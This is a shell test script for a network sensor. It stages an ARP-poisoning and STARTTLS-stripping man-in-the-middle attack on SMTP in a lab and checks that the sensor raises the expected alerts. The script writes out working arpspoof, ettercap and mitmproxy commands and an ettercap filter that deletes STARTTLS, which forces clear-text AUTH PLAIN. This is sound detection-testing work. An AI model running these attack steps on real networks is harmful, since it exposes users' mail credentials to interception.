#!/bin/sh
# Lab scenario starttls-strip: srv runs an SMTP server with STARTTLS on port 25
# (tests/lab/lab-smtpd.py: aiosmtpd from python3-aiosmtpd, AUTH PLAIN/LOGIN offered
# before TLS too, as Postfix with smtpd_tls_auth_only=no). Baseline: the victim sends
# three mails with swaks --tls (STARTTLS, then AUTH PLAIN inside TLS; no alert >= 4).
# Attack: the attacker ARP-poisons the victim for srv's address (dsniff arpspoof, IP
# forwarding on) and REDIRECTs port 25 into mitmproxy (`mitmdump --mode transparent`,
# which relays SMTP as raw TCP) with tests/lab/mitm-starttls-strip.py, an addon that
# deletes STARTTLS from the EHLO answer. The victim sends two mails with swaks
# --tls-optional (opportunistic TLS, as MTAs do): no STARTTLS offered, so it carries on
# in clear and sends AUTH PLAIN readable off the wire.
# Expected live: starttls.stripped for [192.0.2.10]:25 (the list without STARTTLS) and
# its credentials alert (PLAIN in clear after the strip), arp.ip_mac_changed for
# 192.0.2.10, and an incident.mitm holding the ARP and STARTTLS alerts.
#
# Why not ettercap with an etterfilter (replace("STARTTLS", ...), the classic recipe)?
# It strips just as well, but it relays at layer 2: the SPAN port carries each segment
# of the victim's connection twice, srv's original (with STARTTLS) first and the
# attacker's rewritten copy second, in the same TCP flow with the same sequence
# numbers. The sensor's reassembly keeps the first copy (monitor/stream.c; the second
# is counted as a conflict in "streams: ... conflicts"), so starttls.stripped does not
# fire. What shows is the rewrite itself: the copy from the attacker's MAC differs from
# srv's for the same sequence numbers, and detectors/rewrite.c reports
# tcp.rewritten_in_path. LAB_STRIP_TOOL=ettercap (scenario-starttls-ettercap.sh) runs
# that variant and expects the rewrite, the ARP change and an incident holding both.
# shellcheck disable=SC2016
set -eu
# shellcheck source=tests/lib.sh
. "${top_srcdir:-$(cd "$(dirname "$0")/../.." && pwd)}/tests/lib.sh"
# shellcheck source=tests/lab/lab.sh
. "$top_srcdir/tests/lab/lab.sh"

SYS_PYTHON3=/usr/bin/python3
[ -x "$SYS_PYTHON3" ] || SYS_PYTHON3=$PYTHON3
STRIP=${LAB_STRIP_TOOL:-mitmproxy}

lab_init "${LAB_SCENARIO_NAME:-starttls-strip}"
if [ "$STRIP" = ettercap ]; then
	lab_need openssl swaks timeout ettercap etterfilter
else
	lab_need openssl swaks timeout arpspoof mitmdump iptables
fi
"$SYS_PYTHON3" -c 'import aiosmtpd' 2>/dev/null || skip "starttls-strip needs python3-aiosmtpd"
lab_up

openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj /CN=mail.lab.example \
	-keyout "$tmp/key.pem" -out "$tmp/cert.pem" >"$tmp/req.log" 2>&1 ||
	die "openssl req failed: $(cat "$tmp/req.log")"
lab_config "$tmp/lab.yaml"

lab_bg srv "$tmp/smtpd.log" "$SYS_PYTHON3" "$top_srcdir/tests/lab/lab-smtpd.py" "$LAB_SRV_IP" 25 \
	"$tmp/cert.pem" "$tmp/key.pem"
wait_until 15 eval 'lab_exec srv ss -ltn 2>/dev/null | grep -q ":25 "' ||
	die "the SMTP server did not start: $(cat "$tmp/smtpd.log")"

# send LOG [SWAKS OPTIONS]: one mail from the victim, AUTH PLAIN as alice
send() {
	_log=$1
	shift
	lab_exec victim timeout 15 swaks --server "$LAB_SRV_IP" --port 25 --helo victim.lab.example \
		--from alice@lab.example --to bob@lab.example --timeout 10 \
		--auth PLAIN --auth-user alice --auth-password lab-secret "$@" >"$_log" 2>&1
}

if [ "$STRIP" = mitmproxy ]; then
	lab_mitmdump 8025 -s "$top_srcdir/tests/lab/mitm-starttls-strip.py"
else
	cat >"$tmp/strip.filter" <<'EOF'
if (ip.proto == TCP && tcp.src == 25) {
	if (search(DATA.data, "STARTTLS")) {
		replace("STARTTLS", "STRIPPED");
		msg("onpath lab: STARTTLS stripped\n");
	}
}
EOF
	etterfilter -o "$tmp/strip.ef" "$tmp/strip.filter" >"$tmp/etterfilter.log" 2>&1 ||
		die "etterfilter failed: $(cat "$tmp/etterfilter.log")"
	chmod 755 "$tmp"
	chmod 644 "$tmp/strip.ef"
fi

lab_sensor_start "$tmp/lab.yaml"

lab_phase baseline
lab_exec victim ip neigh flush dev eth0
lab_exec srv ip neigh flush dev eth0
for i in 1 2 3; do
	send "$tmp/base-$i.log" --tls || die "baseline: mail $i failed: $(tail -n 5 "$tmp/base-$i.log")"
	grep -q "TLS started" "$tmp/base-$i.log" || die "baseline: mail $i without TLS: $(cat "$tmp/base-$i.log")"
	sleep 0.3
done
sleep 1

lab_phase attack
if [ "$STRIP" = ettercap ]; then
	lab_bg attacker "$tmp/ettercap.log" sh -c 'sleep 20 | timeout -s INT 12 ettercap -T -q -i eth0 -F "$3" -M arp:remote "/$1//" "/$2//"' sh "$LAB_VICTIM_IP" "$LAB_SRV_IP" "$tmp/strip.ef"
	spoof=$lab_pid
else
	lab_forwarding
	lab_redirect tcp "$LAB_SRV_IP" 25 8025
	lab_bg attacker "$tmp/arpspoof.log" timeout 25 arpspoof -i eth0 -t "$LAB_VICTIM_IP" "$LAB_SRV_IP"
	spoof=$lab_pid
fi
wait_until 10 eval 'lab_exec victim ip neigh show "$LAB_SRV_IP" | grep -qi "$LAB_ATTACKER_MAC"' ||
	note "victim ARP cache not poisoned for srv after 10 s"
sleep 1
for i in 1 2; do
	send "$tmp/attack-$i.log" --tls-optional || note "attack: mail $i failed: $(tail -n 5 "$tmp/attack-$i.log")"
	sleep 0.3
done
if [ "$STRIP" = ettercap ]; then
	# ettercap re-ARPs both victims when timeout's SIGINT ends it
	wait_until 15 eval '! lab_running '"$spoof" || note "ettercap still running after 15 s"
	lab_kill "$spoof" 2
else
	lab_kill "$spoof" 8 # arpspoof re-ARPs for a few seconds on SIGTERM
fi
lab_phase end

lab_sensor_stop
if [ "$STRIP" = mitmproxy ]; then
	lab_kill "$mitm" 3
fi
note "$STRIP: $(grep -h 'STARTTLS stripped' "$tmp/$STRIP.log" "$tmp/mitmdump.log" 2>/dev/null | tr '\n' ';')"
note "victim, attack mail 1: $(grep -E '^(\*\*\*|<- +250)' "$tmp/attack-1.log" | tr '\n' ';') $(grep -oE '^ *~?-> AUTH [A-Z]+' "$tmp/attack-1.log")"
if ! grep -q 'AUTH PLAIN' "$tmp/attack-1.log" || grep -q 'TLS started' "$tmp/attack-1.log"; then
	die "starttls-strip: the victim's first attack mail was not stripped: the attack did not happen ($(tail -n 5 "$tmp/attack-1.log" | tr '\n' ';'))"
fi
if [ "$STRIP" = ettercap ]; then
	lab_check --quiet baseline:4 \
		--expect "attack:tcp.rewritten_in_path:source.ip=$LAB_SRV_IP,destination.ip=$LAB_VICTIM_IP,onpath.evidence.attacker_mac=$LAB_ATTACKER_MAC,onpath.evidence.first_mac=$LAB_SRV_MAC" \
		--expect "attack:arp.ip_mac_changed:onpath.evidence.ip=$LAB_SRV_IP,onpath.evidence.new_mac=$LAB_ATTACKER_MAC" \
		--expect-incident "arp.ip_mac_changed+tcp.rewritten_in_path:onpath.incident.attackers=$LAB_ATTACKER_MAC" ||
		die "starttls-ettercap: alerts do not match (replay: onpath -r $lab_out/starttls-ettercap.pcap -c tests/golden/lab-config.yaml)"
	echo "PASS: starttls-ettercap (in-path rewrite)"
	exit 0
fi
lab_check --quiet baseline:4 \
	--expect "attack:starttls.stripped:onpath.evidence.server=[$LAB_SRV_IP]:25,onpath.evidence.has_starttls=false,onpath.evidence.baseline.capabilities=STARTTLS,destination.ip=$LAB_VICTIM_IP" \
	--expect "attack:starttls.stripped:onpath.evidence.client_action=sent credentials in clear,onpath.evidence.credentials.mechanism=PLAIN,source.ip=$LAB_VICTIM_IP" \
	--expect "attack:arp.ip_mac_changed:onpath.evidence.ip=$LAB_SRV_IP,onpath.evidence.new_mac=$LAB_ATTACKER_MAC" \
	--expect-incident "arp.ip_mac_changed+starttls.stripped:onpath.incident.attackers=$LAB_ATTACKER_MAC" ||
	die "starttls-strip: alerts do not match (replay: onpath -r $lab_out/starttls-strip.pcap -c tests/golden/lab-config.yaml)"
echo "PASS: starttls-strip"
